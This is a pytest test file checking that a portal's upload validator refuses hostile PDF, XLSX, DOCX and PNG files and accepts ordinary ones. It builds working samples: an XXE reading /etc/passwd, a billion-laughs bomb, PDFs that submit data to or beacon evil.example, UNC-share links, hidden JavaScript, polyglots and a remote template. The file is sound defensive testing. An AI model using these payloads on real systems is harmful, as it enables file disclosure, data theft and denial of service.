"""Issue 18 item 5: active PDFs, XLSX with external links or entity declarations (XXE, billion
laughs) and polyglots are refused, each refusal naming the file and the reason; ordinary files
with ordinary hyperlinks still pass. The malicious samples are built here, small."""

from __future__ import annotations

import io
import os
import zipfile

import pytest

from .portal_helpers import USCC_A, docx_bytes, member, open_round, pdf_bytes, png_bytes, upload

# --- building the samples -------------------------------------------------------------------


def raw_pdf(*objects: bytes, header: bytes = b"%PDF-1.7\n", prefix: bytes = b"") -> bytes:
    """A PDF of the given objects (1 is the catalogue) with a correct cross-reference table, so
    that it parses as written: names stay as escaped as the test writes them."""
    out = bytearray(prefix + header)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"


def pdf_catalogue(extra: bytes, *more: bytes, page: bytes = PAGE, **kw) -> bytes:
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R" + extra + b">>", PAGES, page, *more, **kw)


def xlsx(extra: dict[str, bytes] | None = None) -> bytes:
    """A real workbook (openpyxl) with parts added or replaced."""
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "算力合同"
    plain = io.BytesIO()
    book.save(plain)
    return rezip(plain.getvalue(), extra or {})


def rezip(data: bytes, extra: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            if info.filename not in extra:
                dst.writestr(info, src.read(info))
        for name, content in extra.items():
            dst.writestr(name, content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def rels(*relationships: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + b"".join(relationships)
        + b"</Relationships>"
    )


OD = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
XXE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM '
    b'"file:///etc/passwd">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    b'main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
)
LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b']><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<sheets><sheet name='&lol9;' sheetId='1'/></sheets></workbook>"
)
# the JavaScript action with its names escaped (#53 is S): invisible to a scan of the raw bytes
HIDDEN_JS = b"<</S/Java#53cript/J#53(app.alert(1))>>"


def nested(depth: int, inner: bytes) -> bytes:
    return b"[" * depth + inner + b"]" * depth


def png_with_text(text: bytes) -> bytes:
    import struct
    import zlib

    png = png_bytes()
    chunk = b"tEXt" + b"Comment\x00" + text
    body = struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return png[:33] + body + png[33:]  # after the signature and IHDR


REFUSED = {
    "a PDF with an XFA form": (
        "xfa.pdf",
        pdf_catalogue(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"(<xdp:xdp/>)"),
        "/XFA",
    ),
    "a PDF that submits its form when opened": (
        "submit.pdf",
        pdf_catalogue(b"/OpenAction<</S/SubmitForm/F(http://evil.example/collect)>>"),
        "/SubmitForm",
    ),
    "a PDF that opens a file on a UNC share (GoToR)": (
        "unc.pdf",
        pdf_catalogue(b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"),
        "/GoToR",
    ),
    "a PDF that opens a web address when opened": (
        "uri.pdf",
        pdf_catalogue(b"/OpenAction<</S/URI/URI(http://evil.example/beacon)>>"),
        "/OpenAction /URI",
    ),
    "a PDF with a page action (/AA)": (
        "aa.pdf",
        pdf_catalogue(
            b"",
            page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]"
            b"/AA<</O<</S/URI/URI(http://evil.example/)>>>>>>",
        ),
        "/AA",
    ),
    "a PDF with a link to a file share": (
        "share.pdf",
        pdf_catalogue(
            b"",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(file://evil/share)>>>>",
            page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>",
        ),
        "/URI file",
    ),
    "a PDF with escaped JavaScript names": (
        "hidden.pdf",
        pdf_catalogue(b"/Names<</X " + HIDDEN_JS + b">>"),
        "/JavaScript",
    ),
    "a PDF with JavaScript nested deeper than the old walk went": (
        "deep.pdf",
        pdf_catalogue(b"/Extra " + nested(60, HIDDEN_JS)),
        "/JavaScript",
    ),
    "a PDF with an embedded file": (
        "attach.pdf",
        pdf_catalogue(b"/Names<</Embedded#46iles<</Names[(a.exe)<</Type/Filespec/F(a.exe)>>]>>>>"),
        "/EmbeddedFiles",
    ),
    "a PDF/HTML polyglot (markup in the first KB)": (
        "poly.pdf",
        pdf_catalogue(b"", header=b"%PDF-1.7\n%<html><script>alert(document.domain)</script>\n"),
        "网页标记",
    ),
    "a page that carries a PDF after its markup": (
        "page.pdf",
        pdf_catalogue(b"", prefix=b"<!-- -->\n"),
        "%PDF-",
    ),
    "a PNG with a script in its first KB": (
        "scan.png",
        png_with_text(b"<script>alert(1)</script>"),
        "网页标记",
    ),
    "an XLSX linking another workbook": (
        "linked.xlsx",
        xlsx({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        "xl/externalLinks",
    ),
    "an XLSX with an external relationship": (
        "ext.xlsx",
        xlsx(
            {
                "xl/worksheets/_rels/sheet1.xml.rels": rels(
                    b'<Relationship Id="rId9" Type="' + OD + b'oleObject" '
                    b'Target="\\\\evil\\share\\x.bin" TargetMode="External"/>'
                )
            }
        ),
        'TargetMode="External"',
    ),
    "a DOCX with a remote template": (
        "template.docx",
        rezip(
            docx_bytes(),
            {
                "word/_rels/settings.xml.rels": rels(
                    b'<Relationship Id="rId1" Type="' + OD + b'attachedTemplate" '
                    b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
                )
            },
        ),
        'TargetMode="External"',
    ),
    "an XLSX with an external entity (XXE)": (
        "xxe.xlsx",
        xlsx({"xl/sharedStrings.xml": XXE}),
        "DOCTYPE",
    ),
    "an XLSX with an external entity in UTF-16": (
        "xxe16.xlsx",
        xlsx({"xl/sharedStrings.xml": XXE.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16")}),
        "DOCTYPE",
    ),
    "a billion-laughs XLSX": ("laughs.xlsx", xlsx({"xl/workbook.xml": LAUGHS}), "DOCTYPE"),
}

ACCEPTED = {
    "a plain PDF": ("plain.pdf", pdf_bytes()),
    "a PDF with a web link a reader clicks": (
        "link.pdf",
        pdf_catalogue(
            b"/OpenAction[3 0 R/Fit]",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://www.miit.gov.cn/)>>>>",
            page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>",
        ),
    ),
    "a PDF whose compressed data happens to hold /JS and /AA": (
        "scan.pdf",
        pdf_catalogue(
            b"",
            b"<</Length 2000/Filter/DCTDecode>>stream\n"
            + os.urandom(500)
            + b"/JS /AA "
            + os.urandom(1492)
            + b"\nendstream",
        ),
    ),
    "a workbook": ("data.xlsx", xlsx()),
    "a DOCX with a hyperlink": (
        "links.docx",
        rezip(
            docx_bytes(),
            {
                "word/_rels/document.xml.rels": rels(
                    b'<Relationship Id="rId99" Type="' + OD + b'hyperlink" '
                    b'Target="https://www.miit.gov.cn/" TargetMode="External"/>'
                )
            },
        ),
    ),
}


@pytest.mark.parametrize("case", list(REFUSED), ids=list(REFUSED))
def test_the_file_is_refused_naming_the_file_and_the_reason(case):
    from voucher.applications.uploads import UploadRefused, check_upload

    name, content, reason = REFUSED[case]
    with pytest.raises(UploadRefused) as refused:
        check_upload(name, content)
    assert name in str(refused.value)
    assert reason in str(refused.value)


@pytest.mark.parametrize("case", list(ACCEPTED), ids=list(ACCEPTED))
def test_ordinary_files_still_pass(case):
    from voucher.applications.uploads import check_upload

    name, content = ACCEPTED[case]
    assert check_upload(name, content).name == name


def test_the_total_expanded_size_of_a_zip_is_capped(monkeypatch):
    from voucher.applications import uploads

    monkeypatch.setattr(uploads, "ZIP_MAX_EXPANDED", 100_000)
    parts = {f"xl/media/part{i}.bin": os.urandom(30_000) for i in range(5)}
    with pytest.raises(uploads.UploadRefused, match="压缩炸弹"):
        uploads.check_upload("many.xlsx", xlsx(parts))


@pytest.mark.django_db
def test_the_portal_shows_the_file_and_the_reason_and_stores_nothing(client, settings, tmp_path):
    from django.urls import reverse

    from voucher.applications.models import Application, MaterialFile

    settings.DATA_DIR = tmp_path
    open_round()
    client.force_login(member("a@example.cn", USCC_A, "甲公司"))
    client.post(reverse("portal:new"), {"direction": 2})
    draft = Application.objects.get()
    name, content, reason = REFUSED["a PDF with an XFA form"]
    response = upload(client, draft, "contract", name, content)
    assert response.status_code == 400
    page = response.content.decode()
    assert name in page and reason in page
    assert MaterialFile.objects.count() == 0
    assert not (tmp_path / "uploads").exists() or not any((tmp_path / "uploads").iterdir())
